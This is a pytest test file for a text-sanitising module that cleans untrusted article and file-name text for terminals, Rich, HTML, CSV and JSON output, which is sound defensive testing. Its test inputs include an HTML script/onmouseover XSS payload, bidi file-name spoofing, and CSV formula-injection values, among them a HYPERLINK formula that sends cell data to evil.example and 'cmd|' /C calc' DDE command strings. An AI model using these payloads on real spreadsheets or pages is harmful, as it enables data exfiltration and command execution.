"""The helpers every output uses for text that came from articles and file names."""

from __future__ import annotations

import io
import json

import pytest

from escalation_cli import untrusted

ESC = "\x1b"
BIDI = ["\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u2069"]


def test_clean_keeps_newline_and_tab_and_drops_every_other_control_character():
    controls = [chr(c) for c in [*range(0x00, 0x20), *range(0x7F, 0xA0)] if chr(c) not in "\t\n"]
    cleaned = untrusted.clean("a" + "".join(controls) + "\tb\nc")
    assert cleaned.startswith("a") and cleaned.endswith("\tb\nc")
    assert {c for c in cleaned} <= {"a", "b", "c", "\t", "\n", " "}


def test_clean_normalises_line_ends_and_keeps_words_apart():
    assert untrusted.clean("one\r\ntwo\rthree") == "one\ntwo\nthree"
    # form feed, vertical tab, NEL and the separators are whitespace: words stay apart
    assert untrusted.clean("page\x0cbreak\x0bhere\x85and\x1fthere") == "page break here and there"
    # an escape sequence loses its ESC; what is left is plain text
    assert untrusted.clean(f"{ESC}[31mred{ESC}[0m") == "[31mred[0m"
    assert untrusted.clean(f"{ESC}]0;title\x07rest") == "]0;titlerest"


def test_clean_drops_bidi_overrides_and_isolates_but_keeps_marks_and_scripts():
    text = "file " + "".join(BIDI) + "gnp.exe"
    assert untrusted.clean(text) == "file gnp.exe"
    arabic = "\u0642\u0627\u0639\u062f\u0629 \u200f(base)\u200e"  # with RLM and LRM marks
    assert untrusted.clean(arabic) == arabic
    assert (
        untrusted.clean("na\u00efve caf\u00e9 \U0001f600 \u200d")
        == "na\u00efve caf\u00e9 \U0001f600 \u200d"
    )


def test_clean_drops_lone_surrogates_from_json_escapes():
    decoded = json.loads('"a\\ud800b\\udc00c"')
    assert untrusted.clean(decoded) == "abc"
    untrusted.clean(decoded).encode("utf-8")  # writable as UTF-8


def test_clean_leaves_clean_text_untouched():
    text = "Rockets hit the base on Monday.\n\n\u201cWe will respond,\u201d he said.\tEnd"
    assert untrusted.clean(text) is text


def test_mask_keeps_offsets():
    text = f"a{ESC}b\u202ec\rd\ne"
    masked = untrusted.mask(text)
    assert len(masked) == len(text)
    assert masked == "a\ufffdb\ufffdc\ufffdd\ne"


def test_printable_and_one_line():
    assert untrusted.printable(None) == ""
    assert untrusted.printable(12) == "12"
    assert untrusted.printable(f"[bold]x[/bold]{ESC}[2J\n") == "[bold]x[/bold][2J\n"
    assert untrusted.one_line("a.txt\nError: b.txt\tfake") == "a.txt Error: b.txt fake"


def test_rich_text_is_never_markup_or_emoji():
    from rich.console import Console

    console = Console(width=80, record=True, file=io.StringIO())
    console.print(untrusted.rich_text("[bold red]HACKED[/bold red] :warning: [link=http://x]y[/]"))
    shown = console.export_text()
    assert "[bold red]HACKED[/bold red] :warning: [link=http://x]y[/]" in shown


def test_html_text_escapes_elements_and_attributes():
    value = '<script>alert(\'x\')</script> " onmouseover="alert(1)" & \u202e'
    escaped = untrusted.html_text(value)
    for raw in ("<", ">", '"', "'", "\u202e"):
        assert raw not in escaped
    assert escaped.startswith("&lt;script&gt;alert(&#x27;x&#x27;)")
    assert "&amp;" in escaped


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_csv_cell_neutralises_formulas(value):
    assert untrusted.csv_cell(value) == "'" + value


def test_csv_cell_leaves_numbers_and_ordinary_text():
    for value in (-3.25, -12, 0, 33.49, "", "Rockets hit the base", "2024-01-28", "'quoted"):
        assert untrusted.csv_cell(value) == value


def test_json_text_escapes_what_a_terminal_would_act_on_and_stays_json():
    row = {"source": "a\u009b31m\u202eb\u0085c\x7f", "reason": "x\u00e9"}
    line = untrusted.json_text(json.dumps(row, ensure_ascii=False))
    assert all(c not in line for c in "\u009b\u202e\u0085\x7f")
    assert "\u00e9" in line
    assert json.loads(line) == row
